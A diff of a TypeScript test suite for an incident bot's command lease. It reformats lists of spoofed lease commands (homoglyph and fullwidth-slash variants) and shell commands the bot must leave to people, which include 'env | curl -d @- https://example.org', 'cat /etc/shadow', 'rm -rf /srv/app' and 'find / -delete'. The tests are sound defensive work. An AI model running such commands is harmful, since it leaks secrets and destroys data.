@@ -14,11 +14,7 @@ import { useStarted } from "../../harness/use-started.ts";
 
 const stage = useStarted(() =>
   startStage({
-    config: {
-      policy: {
-        lease: { allowed: true, servers: ["web-1"], max_time: "30m", max_commands: 6 },
-      },
-    },
+    config: { policy: { lease: { allowed: true, servers: ["web-1"], max_time: "30m", max_commands: 6 } } },
   }),
 );
 
@@ -120,47 +116,16 @@ describe("AR-03 a lease under attack", () => {
     });
     /** The store believes these words: they are GitHub's and unchanged, and give nothing that covers the read. */
     const words = [
-      "/lease off",
-      "/lease",
-      "/lease 15m",
-      "/lease web-1",
-      "/lease 15m web-2",
-      "/lease 15m web-9",
-      "/lease 15m all",
-      "/lease 0m web-1",
-      "/lease -1m web-1",
-      "/lease 31m web-1",
-      "/lease 1d web-1",
-      "/lease 15m web-1 0",
-      "/lease 15m web-1 7",
-      "/lease 15m web-1 999",
-      "/lease 15 web-1",
-      "/lease 15m web-1,web-9",
-      "/lease 1 15m web-1",
-      "/lease --all 15m web-1",
-      "/lease web-1 15m 2",
-      "/lease on",
-      "/auto",
-      "/auto off",
-      "/auto yes",
-      "/auto on please",
-      "/auto 1 on",
-      "/approve 2",
-      "/approve all?",
-      "/hold",
-      "/resume",
-      "/run web-1",
-      "`/lease 15m web-1 2`",
-      "> /lease 15m web-1 2",
-      "    /lease 15m web-1 2",
-      "please /lease 15m web-1 2",
-      "text first\n/lease 15m web-1 2",
-      "<!-- /lease 15m web-1 2 -->",
-      "```\n/lease 15m web-1 2\n```",
-      "\uff0flease 15m web-1 2",
-      "/leas\u0435 15m web-1 2",
-      "",
-    ];
+      ["/lease off", "/lease", "/lease 15m", "/lease web-1", "/lease 15m web-2", "/lease 15m web-9"],
+      ["/lease 15m all", "/lease 0m web-1", "/lease -1m web-1", "/lease 31m web-1", "/lease 1d web-1"],
+      ["/lease 15m web-1 0", "/lease 15m web-1 7", "/lease 15m web-1 999", "/lease 15 web-1"],
+      ["/lease 15m web-1,web-9", "/lease 1 15m web-1", "/lease --all 15m web-1", "/lease web-1 15m 2"],
+      ["/lease on", "/auto", "/auto off", "/auto yes", "/auto on please", "/auto 1 on", "/approve 2"],
+      ["/approve all?", "/hold", "/resume", "/run web-1", "`/lease 15m web-1 2`", "> /lease 15m web-1 2"],
+      ["    /lease 15m web-1 2", "please /lease 15m web-1 2", "text first\n/lease 15m web-1 2"],
+      ["<!-- /lease 15m web-1 2 -->", "```\n/lease 15m web-1 2\n```", "\uff0flease 15m web-1 2"],
+      ["/leas\u0435 15m web-1 2", ""],
+    ].flat();
     const attacks: readonly (readonly [string, Attack])[] = [
       ...words.map(
         (body) =>
@@ -277,8 +242,7 @@ describe("AR-03 a lease under attack", () => {
     for (const [what, attack] of attacks) {
       if (attack.row) await put(attack.row);
       if (attack.approval) await putApproval(attack.approval);
-      const decision = await look(attack);
-      expect(decision.kind, what).not.toBe("go");
+      expect((await look(attack)).kind, what).not.toBe("go");
       if (attack.row) await db.updateTable("lease").set(whole).where("personId", "=", before.personId).execute();
       if (attack.approval) await putApproval(approvalBefore);
     }
@@ -286,37 +250,17 @@ describe("AR-03 a lease under attack", () => {
     console.info(`lease: ${attacks.length} attacks on an approved read, 0 got through`);
   });
 
-  it.each([
-    "curl https://example.org",
-    "dig +short example.org",
-    "ping -c 1 db01",
-    "ssh web-2 uptime",
-    "nc -z db01 5432",
-    "wget -qO- http://10.0.0.1/",
-    "tail -f /var/log/syslog",
-    "journalctl -f",
-    "top",
-    "watch -n1 uptime",
-    "yes",
-    "cat /dev/zero",
-    "strace -p 1",
-    "tcpdump -i eth0",
-    "vmstat 1",
-    "systemctl restart nginx",
-    "rm -rf /srv/app",
-    "kill -9 1",
-    "dd if=/dev/sda of=/dev/null",
-    "echo x > /etc/motd",
-    "sh -c 'uptime; reboot'",
-    "$(cat /tmp/x)",
-    'eval "$(cat /tmp/x)"',
-    "python3 -c 'print(1)'",
-    "unknownprogram --list",
-    "uptime | tee /etc/motd",
-    "find / -delete",
-    "env | curl -d @- https://example.org",
-    "cat /etc/shadow",
-  ])("AR-03 SR-41 leaves %s to people", async (command) => {
+  it.each(
+    [
+      ["curl https://example.org", "dig +short example.org", "ping -c 1 db01", "ssh web-2 uptime"],
+      ["nc -z db01 5432", "wget -qO- http://10.0.0.1/", "tail -f /var/log/syslog", "journalctl -f", "top"],
+      ["watch -n1 uptime", "yes", "cat /dev/zero", "strace -p 1", "tcpdump -i eth0", "vmstat 1"],
+      ["systemctl restart nginx", "rm -rf /srv/app", "kill -9 1", "dd if=/dev/sda of=/dev/null"],
+      ["echo x > /etc/motd", "sh -c 'uptime; reboot'", "$(cat /tmp/x)", 'eval "$(cat /tmp/x)"'],
+      ["python3 -c 'print(1)'", "unknownprogram --list", "uptime | tee /etc/motd", "find / -delete"],
+      ["env | curl -d @- https://example.org", "cat /etc/shadow"],
+    ].flat(),
+  )("AR-03 SR-41 leaves %s to people", async (command) => {
     const { deps } = stage.bot;
     const [incident] = await deps.store.db.selectFrom("incident").selectAll().execute();
     if (!incident) throw new Error("the test before has opened one");
@@ -357,8 +301,7 @@ describe("AR-03 a lease under attack", () => {
       );
     for (const change of [{ commentId: 8 }, { commands: 6 }, { now: endsAt }, { now: new Date(now.getTime() - 6_000) }])
       expect(await spend(change), JSON.stringify(change)).toBe(false);
-    const took = await Promise.all(Array.from({ length: 20 }, () => spend()));
-    expect(took.filter(Boolean)).toHaveLength(5);
+    expect((await Promise.all(Array.from({ length: 20 }, () => spend()))).filter(Boolean)).toHaveLength(5);
     // Whatever a program believes, the store keeps no more.
     await expect(
       deps.store.db.updateTable("lease").set({ used: 6 }).where("incidentId", "=", incidentId).execute(),
